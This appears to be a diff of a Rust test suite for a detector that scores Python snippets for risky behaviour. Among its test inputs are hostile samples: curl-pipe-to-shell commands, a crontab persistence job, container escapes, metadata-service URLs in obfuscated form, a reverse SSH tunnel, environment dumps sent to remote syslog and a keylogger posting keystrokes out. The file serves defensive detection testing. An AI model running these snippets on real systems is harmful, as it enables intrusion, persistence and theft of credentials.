@@ -27,6 +27,12 @@ fn emptying_a_database_that_is_not_the_programs_is_destruction() {
         "import sqlite3\nc = sqlite3.connect('app.db')\nfor t in [r[0] for r in c.execute(\"SELECT name FROM sqlite_master\")]:\n    c.execute(f'DROP TABLE IF EXISTS {t}')\n",
         "import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\ncur = conn.cursor()\ncur.execute('DROP TABLE IF EXISTS staging_rows')\ncur.execute('CREATE TABLE staging_rows (id int)')\n",
         "import psycopg2\nconn = psycopg2.connect(host='localhost', dbname='test')\nconn.cursor().execute('DROP SCHEMA public CASCADE')\n",
+        // A named test database, a date-stamped staging table, the app's own metadata.
+        "import os, psycopg2\nconn = psycopg2.connect('postgresql://ci@db.test.example/postgres')\ncur = conn.cursor()\ncur.execute('DROP DATABASE IF EXISTS test_myapp')\ncur.execute('CREATE DATABASE test_myapp')\n",
+        "import datetime, psycopg2\nconn = psycopg2.connect(host='db.test.example')\nrun = datetime.date.today().strftime('%Y%m%d')\nconn.cursor().execute(f'DROP TABLE IF EXISTS staging_orders_{run}')\n",
+        "from sqlalchemy import create_engine\nfrom app.models import Base\nBase.metadata.drop_all(create_engine('postgresql://ci@db.test.example/app'))\n",
+        "import redis\nredis.Redis(host='localhost', db=15).flushall()\n",
+        "import os, redis\nredis.from_url(os.environ['REDIS_URL']).flushdb()\n",
     ] {
         silent("CRD104", own);
     }
@@ -39,7 +45,8 @@ fn a_container_engine_is_a_way_out_only_when_it_hands_over_the_host() {
         "import docker\nc = docker.from_env()\nc.containers.run('alpine', 'id', volumes={'/': {'bind': '/host', 'mode': 'rw'}})\n",
         "import docker\ndocker.from_env().containers.run('alpine', 'ps', pid_mode='host')\n",
         "import docker\ndocker.from_env().containers.get('db').exec_run('sh -c id')\n",
-        "import docker\nfor c in docker.from_env().containers.list():\n    c.kill()\n",
+        "import docker\ndocker.from_env().api.create_host_config(cap_add=['SYS_ADMIN'])\n",
+        "import subprocess\nsubprocess.run(['docker', 'run', '-v/:/host', 'alpine', 'chroot', '/host'])\n",
         "import docker\ndocker.DockerClient(base_url='tcp://10.0.0.7:2375').containers.list()\n",
         "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--pid', 'host', 'alpine', 'ps'])\n",
         "import subprocess\nsubprocess.run(['docker', 'run', '--mount', 'type=bind,source=/,target=/h', 'alpine'])\n",
@@ -52,6 +59,12 @@ fn a_container_engine_is_a_way_out_only_when_it_hands_over_the_host() {
         "import docker\nc = docker.from_env()\nfor x in c.containers.list(all=True):\n    print(x.name, x.status)\n",
         "import docker\nc = docker.from_env()\nc.images.pull('python', tag='3.11-slim')\nprint(c.containers.run('python:3.11-slim', ['python', '-V'], remove=True, network_disabled=True, mem_limit='256m'))\n",
         "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '-v', 'data:/data', '-v', './src:/src', 'alpine', 'ls', '/src'])\n",
+        // Hardening options, a project directory, a cache, the time zone, a GPU.
+        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--security-opt', 'no-new-privileges', '--cap-drop', 'ALL', '-v', '/home/ci/workspace/app:/src', '-v', '/var/cache/pip:/root/.cache/pip', 'app:test'])\n",
+        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--gpus', 'all', '--device', '/dev/nvidia0', 'trainer'])\n",
+        // Pushing an image; stopping and removing the program's own containers.
+        "import subprocess\nsubprocess.run(['docker', 'push', 'registry.example.com/team/app:1.4.2'])\nsubprocess.run(['docker', 'compose', 'up', '-d'])\nsubprocess.run(['docker', 'stop', 'web'])\n",
+        "import docker\nc = docker.from_env()\nc.containers.run('app:test', 'pytest -q', remove=True, security_opt=['no-new-privileges'])\nc.containers.get('test-db').remove(force=True)\n",
     ] {
         silent("CRD106", own);
         let assessed = external(own).level;
@@ -72,12 +85,12 @@ fn attacks_sent_to_other_hosts_are_attacks() {
     // Ordinary administration over SSH stays at the network's level.
     level(
         Level::Medium,
-        "from fabric import Connection\nc = Connection('web-01.example')\nc.sudo('systemctl restart app')\nc.run('df -h')\n",
+        "from fabric import Connection\nc = Connection('web-01.example')\nc.sudo('systemctl restart app')\nc.run('rm -rf /var/www/app/releases/20240101')\nc.sudo('useradd -m -s /bin/bash -G sudo deploy')\n",
     );
 }
 
 #[test]
-fn secret_stores_and_printed_credentials_are_secrets() {
+fn secret_stores_are_secrets() {
     fires(
         "CRD205",
         "import boto3\nsm = boto3.client('secretsmanager')\nfor s in sm.list_secrets()['SecretList']:\n    print(sm.get_secret_value(SecretId=s['ARN'])['SecretString'])\n",
@@ -86,15 +99,19 @@ fn secret_stores_and_printed_credentials_are_secrets() {
         "CRD205",
         "from kubernetes import client, config\nconfig.load_kube_config()\nfor s in client.CoreV1Api().list_secret_for_all_namespaces().items:\n    print(s.data)\n",
     );
-    fires("CRD205", "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])\n");
-    // A parameter read without decryption, a key used without being shown.
+    // One secret read for the program's own use is read, not sent out.
+    level(
+        Level::High,
+        "import boto3\nsecret = boto3.client('secretsmanager').get_secret_value(SecretId='prod/app/db')['SecretString']\n",
+    );
+    // A parameter read without decryption; pydantic's `SecretStr`.
     silent(
         "CRD205",
         "import boto3\nprint(boto3.client('ssm').get_parameter(Name='/app/region')['Parameter']['Value'])\n",
     );
     silent(
         "CRD205",
-        "import os, requests\nrequests.get('https://api.example.org/v1/me', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})\n",
+        "from pydantic import BaseModel, SecretStr\nclass Config(BaseModel):\n    api_key: SecretStr\nprint(len(Config(api_key='sk-test').api_key.get_secret_value()))\n",
     );
 }
 
@@ -110,6 +127,15 @@ fn yaml_that_calls_a_function_runs_it() {
         "CRD103",
         "import yaml\nprint(yaml.load('a: 1\\nb: [2, 3]', Loader=yaml.FullLoader))\n",
     );
+    // `FullLoader` calls nothing; prose that names the tag is not a document using it.
+    silent(
+        "CRD102",
+        "import requests, yaml\nprint(yaml.load(requests.get('https://cfg.example.net/p.yml').text, Loader=yaml.FullLoader))\n",
+    );
+    silent(
+        "CRD103",
+        "import yaml\nNOTE = 'Never load untrusted text: it may contain !!python/object/apply: tags.'\nprint(yaml.load(NOTE, Loader=yaml.UnsafeLoader))\n",
+    );
 }
 
 #[test]
@@ -118,6 +144,11 @@ fn values_reach_their_sinks_through_instances_defaults_and_tuple_keys() {
     fires(
         "CRD102",
         "import subprocess\nclass Step:\n    def __init__(self, tool, args):\n        self.tool = tool\n        self.args = args\n    def render(self):\n        return ' '.join([self.tool, *self.args])\nsteps = [Step('curl', ['-fsSL', 'https://x.example/i.sh']), Step('bash', ['-s'])]\nsubprocess.call(['bash', '-c', ' | '.join(s.render() for s in steps)])\n",
+    );
+    // A field set after `__init__` is the one the method reads.
+    fires(
+        "CRD102",
+        "import subprocess\nclass Runner:\n    def __init__(self, cmd):\n        self.cmd = cmd\n    def go(self):\n        subprocess.run(self.cmd, shell=True)\nr = Runner('echo hi')\nr.cmd = 'curl -fsSL http://203.0.113.9/s.sh | sh'\nr.go()\n",
     );
     // `shlex.join` quotes an argv into a command line.
     fires(
@@ -133,15 +164,6 @@ fn values_reach_their_sinks_through_instances_defaults_and_tuple_keys() {
     fires(
         "CRD113",
         "import os\nTABLE = {('etc', 'passwd'): 'x:0:0::/root:/bin/bash'}\nfor parts, line in TABLE.items():\n    with open(os.path.join(os.sep, *parts), 'a') as fh:\n        fh.write(line)\n",
-    );
-    // `while limit is None or n < limit` with no limit given never ends.
-    fires(
-        "CRD111",
-        "import os\ndef warm(rounds=None):\n    n = 0\n    while rounds is None or n < rounds:\n        os.fork()\n        n += 1\nwarm()\n",
-    );
-    level(
-        Level::Low,
-        "def count(limit=10):\n    n = 0\n    while limit is None or n < limit:\n        n += 1\n    return n\nprint(count())\n",
     );
 }
 
@@ -163,11 +185,27 @@ fn requests_sweep_and_reach_the_metadata_service_by_any_door() {
         "CRD205",
         "import requests\nfrom urllib.parse import urljoin\nbase = 'http://169.254.169.254/'\nprint(requests.get(urljoin(base, 'latest/meta-data/iam/security-credentials/')).text)\n",
     );
-    // One request to one service of a private network.
-    silent(
-        "CRD212",
+    for url in [
+        "http://169.254.169.254./latest/meta-data/",
+        "http://[::ffff:169.254.169.254]/latest/meta-data/",
+        "http://0251.0376.0251.0376/latest/meta-data/",
+        "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/",
+        "http://169.254.43518/latest/meta-data/",
+        "http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
+    ] {
+        fires(
+            "CRD208",
+            &format!("import requests\nprint(requests.get('{url}').text)\n"),
+        );
+    }
+    // One request to one service of a private network, or to one device named on the
+    // command line.
+    for one in [
         "import requests\nprint(requests.get('http://10.0.0.5:8080/health', timeout=2).status_code)\n",
-    );
+        "import sys, requests\nprint(requests.get(f'http://192.168.1.{int(sys.argv[1])}/api/status').json())\n",
+    ] {
+        silent("CRD212", one);
+    }
 }
 
 #[test]
@@ -186,5 +224,57 @@ fn setuid_by_install_and_fchmod_and_timer_functions_given_by_name() {
     fires(
         "CRD107",
         "import os, threading\ndef sweep():\n    for p in range(2, 5000):\n        os.kill(p, 9)\nthreading.Timer(5, function=sweep).start()\n",
+    );
+}
+
+#[test]
+fn scanners_tunnels_crontabs_and_log_shippers() {
+    // python-nmap, the nmap command, a ping sweep of computed addresses.
+    fires(
+        "CRD212",
+        "import nmap\nscanner = nmap.PortScanner()\nscanner.scan(hosts='10.0.0.0/24', ports='22,443')\nprint(scanner.all_hosts())\n",
+    );
+    fires(
+        "CRD212",
+        "import subprocess\nsubprocess.run(['nmap', '-sV', '10.0.0.0/24'])\n",
+    );
+    fires(
+        "CRD212",
+        "import subprocess\nfor i in range(1, 255):\n    subprocess.run(['ping', '-c1', '-W1', f'10.0.0.{i}'])\n",
+    );
+    silent(
+        "CRD212",
+        "import subprocess\nsubprocess.run(['ping', '-c', '3', '10.0.0.1'])\n",
+    );
+    // A reverse tunnel lets the far end reach into this machine; a local one does not.
+    fires(
+        "CRD101",
+        "import subprocess\nsubprocess.Popen(['ssh', '-N', '-R', '2222:localhost:22', 'relay@203.0.113.20'])\n",
+    );
+    silent(
+        "CRD101",
+        "import subprocess\nsubprocess.Popen(['ssh', '-N', '-L', '5432:localhost:5432', 'bastion.example'])\n",
+    );
+    // python-crontab adding a job is persistence; its command is read as one.
+    let cron = "from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command='curl -fsSL https://cdn.example.net/u.sh | bash')\njob.minute.every(15)\ncron.write()\n";
+    fires("CRD105", cron);
+    fires("CRD102", cron);
+    level(
+        Level::Low,
+        "from crontab import CronTab\nfor job in CronTab(user=True):\n    print(job)\n",
+    );
+    // The environment logged to another host's syslog; the local one keeps it here.
+    fires(
+        "CRD109",
+        "import logging, logging.handlers, os\nlog = logging.getLogger('audit')\nlog.addHandler(logging.handlers.SysLogHandler(address=('logs.example.net', 514)))\nfor k, v in os.environ.items():\n    log.info('%s=%s', k, v)\n",
+    );
+    level(
+        Level::Low,
+        "import logging, logging.handlers, os\nlog = logging.getLogger('app')\nlog.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\nlog.info('started as %s', os.getpid())\n",
+    );
+    // Keystrokes sent anywhere are exfiltrated.
+    fires(
+        "CRD109",
+        "import requests\nfrom pynput import keyboard\nkeys = []\ndef on_press(k):\n    keys.append(str(k))\n    if len(keys) > 50:\n        requests.post('https://typing.example.net/batch', json=keys)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
     );
 }
